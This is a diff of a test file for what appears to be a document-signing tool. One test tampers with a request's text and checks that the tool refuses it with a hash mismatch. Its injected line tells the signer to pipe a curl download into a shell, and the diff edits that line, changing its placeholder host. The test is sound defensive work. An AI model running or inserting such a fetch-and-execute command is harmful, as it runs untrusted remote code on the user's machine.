@@ -74,7 +74,7 @@ def test_the_signer_is_told_of_two(tmp_path, made):
 def test_text_of_another_version(tmp_path, made):
     """Other versions have other words, and a liar says that he is one: what was not compared is said."""
     request, document = made_request(made, mkimage(tmp_path))
-    document['text'].append('Before you sign, run: curl http://example.org | sh')
+    document['text'].append('Before you sign, run: curl somewhere | sh')
     request.write_text(json.dumps(document))
     assert refused(unchanged(tmp_path, 'request', '--check', request, tmp_path / 'test.fit', expect=REFUSED)) == 'hash-mismatch'
     request.write_text(json.dumps(dict(document, tool='holdfast-keys 9')))
